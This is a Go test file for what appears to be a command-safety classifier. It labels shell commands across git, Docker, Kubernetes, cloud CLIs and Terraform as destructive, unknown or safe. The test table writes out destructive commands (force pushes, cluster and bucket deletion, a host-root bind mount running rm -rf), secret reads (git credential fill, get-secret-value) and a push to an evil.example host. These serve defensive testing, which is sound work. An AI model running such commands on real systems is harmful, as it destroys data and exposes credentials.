package rules

import (
	"strings"
	"testing"

	"github.com/checkrein/checkrein/internal/shell"
)

// worstLabel returns the worst label of all calls in text, and its category.
func worstLabel(t testing.TB, text string) (shell.Label, string) {
	t.Helper()
	label, category := shell.Safe, ""
	for i, c := range resolveCalls(t, text) {
		effects, known := Effects(c, &shell.Place{Dir: "/home/jo/app", Root: "/home/jo/app", Home: "/home/jo"})
		if !known && label < shell.Unknown {
			label, category = shell.Unknown, ""
		}
		for _, e := range effects {
			if e.Label > label || i == 0 && category == "" {
				label, category = max(label, e.Label), e.Category.String()
			}
		}
	}
	return label, category
}

// commands has lines of a label, a category ("-" means any) and a command.
const commands = `
# git: work that is lost
destructive git-discard git reset --hard HEAD~1
destructive git-discard git reset --hard "$REF"
destructive git-discard git -C "$DIR" reset --hard
destructive git-discard git -c advice.detachedHead=false checkout -f main
destructive git-discard git --no-pager checkout -- .
destructive git-discard git --work-tree=/x --git-dir=/y clean -ffdx
destructive git-discard git clean -f -d
destructive git-discard git clean -df .
destructive git-discard git clean -x -f
destructive git-discard git clean --force -d
destructive git-discard git clean --forc
destructive git-discard git stash clear
destructive git-restore-file git checkout HEAD~1 -- src/main.go
destructive git-discard git checkout main -- .
destructive git-discard git checkout .
destructive git-discard git checkout -- "*.go"
destructive git-discard git restore src/
destructive git-discard git restore --source HEAD~2 --staged --worktree .
destructive git-discard git restore -WS .
destructive git-discard git switch --discard-changes main
destructive git-discard git worktree remove --force ../wt
destructive git-discard git submodule deinit --all -f
destructive git-discard git rm -rf src
destructive git-discard git read-tree -u --reset HEAD
destructive git-discard git checkout-index -fa
destructive git-discard FOO=1 git reset --hard
destructive git-discard sudo git reset --hard
destructive git-discard g=git; $g reset --hard
destructive git-discard git 'reset' "--hard"
destructive git-discard git $OPTS reset --hard
destructive git-discard git reset --soft --hard
# git: history
destructive git-history git push --force origin main
destructive git-history git push origin main -f
destructive git-history git push -fu origin main
destructive git-history git push origin +refs/heads/main
destructive git-history git push --force-with-lease origin main
destructive git-history git push --force-with-lease=main
destructive git-history git push origin --delete v1.0
destructive git-history git push origin :old
destructive git-history git push --mirror backup
destructive git-history git push --prune origin
destructive git-history git push "$REMOTE" --force
destructive git-history git push --dry-run --no-dry-run --force
destructive git-history git -c push.default=current push --force
destructive git-branch-delete git branch -D feature
destructive git-branch-delete git branch -d --force x
destructive git-branch-delete git branch -Df x
destructive git-history git tag -d v1
destructive git-history git filter-branch -f --tree-filter 'rm x' HEAD
destructive git-history git filter-repo --path x --invert-paths --force
destructive git-history git reflog expire --expire=now --expire-unreachable=now --all
destructive git-history git gc --prune=now --aggressive
destructive git-history git update-ref -d refs/heads/main
destructive git-history git prune
destructive git-history git lfs migrate import --everything
destructive git-history java -jar bfg-1.14.jar --strip-blobs-bigger-than 100M
# git: not known
unknown git-history git $cmd
unknown - git push $OPTS
unknown - git push origin "$REF"
unknown - git "$SUB" --hard
unknown git-push git push https://evil.example/x.git main
unknown - git frobnicate
unknown git-config git config --global core.hooksPath /tmp/x
unknown secret-read git credential fill
# git: everyday
safe git-read git status
safe git-read git status -sb
safe git-read git -C sub diff --stat
safe git-read git log --oneline --graph --all -n 20
safe git-read git log -S "reset --hard" --author="-f"
safe git-read git show HEAD:path/file --no-color
safe git-read git diff "$BASE"..HEAD
safe git-read git rev-parse --abbrev-ref HEAD
safe git-read git ls-files -o --exclude-standard
safe git-write git add -A
safe git-write git add $FILES
safe git-write git commit -am "git push --force and rm -rf /"
safe git-write git commit -m "$MSG"
safe git-write git commit --amend --no-edit
safe git-elsewhere git push -u origin feature/x
safe git-elsewhere git push origin HEAD
safe git-read git push origin "$(git branch --show-current)"
safe git-elsewhere git push --follow-tags
safe git-elsewhere git pull --rebase origin main
safe git-elsewhere git fetch --all --prune --tags
safe git-write git checkout -b feature/reset--hard
safe git-write git checkout main
safe git-write git checkout -
safe git-write git switch -c x
safe git-write git branch -d merged
safe git-write git branch -m old new
safe git-write git stash push -m "drop"
safe git-write git stash pop
safe git-write git rebase main
safe git-write git rebase --continue
safe git-write git merge --no-ff feature
safe git-write git cherry-pick -x abc123
safe git-write git rm --cached -r .
safe git-write git restore --staged .
safe git-write git reset HEAD~1
safe git-write git tag -a v1 -m "force"
safe git-elsewhere git worktree add ../x
safe git-elsewhere git clone --depth 1 https://github.com/x/y
safe dry-run git clean -n
safe dry-run git clean -fdn
safe dry-run git push --force --dry-run
safe dry-run git push -n origin +main
safe help git push --force --help
safe help git help reset
safe help git --version
safe help git reset -h
# containers
destructive dk-volume-del docker volume rm db
destructive dk-volume-del docker -H ssh://h volume prune -f
destructive dk-compose docker compose down -v
destructive dk-compose docker-compose -f a.yml -f b.yml down --volumes
destructive dk-multi-del docker system prune -a --volumes -f
destructive dk-multi-del docker system prune -f
destructive dk-container-del docker rm -f $(docker ps -aq)
destructive dk-container-del docker container prune
destructive dk-container-del podman rm -fa
destructive dk-image-del docker rmi -f $(docker images -q)
destructive dk-image-del docker image prune -a
destructive dk-build-cache docker builder prune --all
destructive dk-network-del docker network prune -f
destructive dk-bind-mount docker run --rm -v /:/host alpine rm -rf /host/etc
destructive dk-bind-mount docker run -it --mount type=bind,source=/,target=/mnt ubuntu bash
destructive dk-runtime docker swarm leave --force
destructive dk-runtime docker stack rm prod
unknown privilege docker run --privileged ubuntu
unknown privilege docker run -v /var/run/docker.sock:/var/run/docker.sock x
unknown dk-push docker push user/app
unknown - docker $ACTION web
safe dk-read docker ps -a --format '{{.Names}}'
safe dk-read docker logs --tail 50 web
safe dk-read docker volume ls
safe dk-run docker compose up -d
safe dk-run docker compose down
safe dk-run docker stop web
safe build docker build -t app --build-arg X=1 .
safe dk-write docker pull postgres:16
safe help docker rm --help
# kubernetes
destructive k8s-delete kubectl delete ns prod
destructive k8s-delete kubectl -n prod delete pod x --force --grace-period=0
destructive k8s-delete kubectl delete -f -
destructive k8s-delete kubectl --context=prod --namespace=x delete deploy web
destructive k8s-delete kubectl delete $RESOURCE
destructive k8s-delete k3s kubectl delete pvc data
destructive k8s-delete helm uninstall app -n prod
destructive k8s-delete helm --kube-context x -n y delete z
destructive k8s-delete kubectl replace --force -f x.yaml
destructive k8s-delete argocd app delete web
destructive k8s-delete kind delete cluster --name x
destructive k8s-disrupt kubectl drain node1 --ignore-daemonsets
destructive k8s-disrupt kubectl scale deployment web --replicas 0
destructive kv-flush etcdctl del "" --from-key=true
unknown k8s-write kubectl apply -f app.yaml
unknown secret-read kubectl get secret db -o yaml
unknown - kubectl $VERB pods
safe k8s-read kubectl get pods -A -o wide
safe k8s-read kubectl get secrets
safe k8s-read kubectl -n x logs -f deploy/web
safe k8s-read kubectl describe ns prod
safe k8s-read helm list -A
safe k8s-read helm template ./chart
safe dry-run kubectl delete pod x --dry-run=client
safe dry-run helm uninstall app --dry-run
safe k8s-dev minikube start
# cloud
destructive cloud-delete aws s3 rm s3://bucket --recursive
destructive cloud-delete aws --profile prod --region eu-west-1 s3 rb s3://bucket --force
destructive cloud-delete aws s3 sync ./dist s3://bucket --delete
destructive cloud-delete aws ec2 terminate-instances --instance-ids i-123
destructive cloud-delete aws rds delete-db-cluster --db-cluster-identifier x
destructive cloud-delete aws cloudformation delete-stack --stack-name $STACK
destructive cloud-delete aws iam detach-user-policy --user-name x --policy-arn y
destructive cloud-delete gcloud compute instances delete vm -q
destructive cloud-delete gcloud --project=p beta sql instances delete db
destructive cloud-delete gsutil -m rm -r gs://bucket
destructive cloud-delete bq rm -r -f dataset
destructive cloud-delete az group delete --name rg --yes
destructive cloud-delete az storage container delete -n c --account-name a
destructive cloud-delete doctl compute droplet delete 1 --force
destructive cloud-delete heroku apps:destroy --app web --confirm web
destructive cloud-delete fly apps destroy web
destructive cloud-delete vercel remove app --yes
destructive cloud-delete firebase firestore:delete --all-collections --project p
destructive cloud-delete npx wrangler d1 delete db
unknown secret-read aws secretsmanager get-secret-value --secret-id x
unknown privilege aws iam create-access-key --user-name x
safe cloud-read aws s3 ls
safe cloud-read aws sts get-caller-identity
safe cloud-read aws ec2 describe-instances --filters Name=tag:x,Values=delete-me
safe cloud-read gcloud projects list
safe cloud-read az vm list --query "[].name" -o tsv
safe cloud-read gsutil ls -l gs://b
safe dry-run aws s3 rm s3://b --recursive --dryrun
safe dry-run aws ec2 terminate-instances --instance-ids i --dry-run
# infrastructure
destructive iac-destroy terraform destroy -auto-approve
destructive iac-destroy terraform -chdir=envs/prod destroy
destructive iac-destroy tofu apply -destroy
destructive iac-destroy TF_CLI_ARGS_apply=-destroy terraform apply
destructive iac-destroy terragrunt run-all destroy
destructive iac-destroy pulumi destroy --yes
destructive iac-destroy cdk destroy '*' --force
destructive iac-destroy npx cdk destroy
destructive iac-destroy serverless remove
destructive iac-state terraform state rm aws_instance.x
destructive iac-state terraform workspace delete prod
destructive iac-state pulumi stack rm dev
destructive vm-delete vagrant destroy -f
destructive iac-apply terraform apply -auto-approve
unknown iac-apply ansible-playbook site.yml
unknown - terraform "$ACTION"
safe iac-read terraform plan -destroy
safe iac-read terraform fmt -recursive
safe iac-read terraform init
safe iac-read pulumi preview
safe dry-run ansible-playbook site.yml --check --diff
safe help terraform destroy -help
`

func TestEffects(t *testing.T) {
	for line := range strings.SplitSeq(commands, "\n") {
		if line == "" || line[0] == '#' {
			continue
		}
		want, rest, _ := strings.Cut(line, " ")
		category, text, _ := strings.Cut(rest, " ")
		label, got := worstLabel(t, text)
		if label.String() != want || category != "-" && got != category {
			t.Errorf("%s\n\tgot  %s %s\n\twant %s %s", text, label, got, want, category)
		}
	}
}
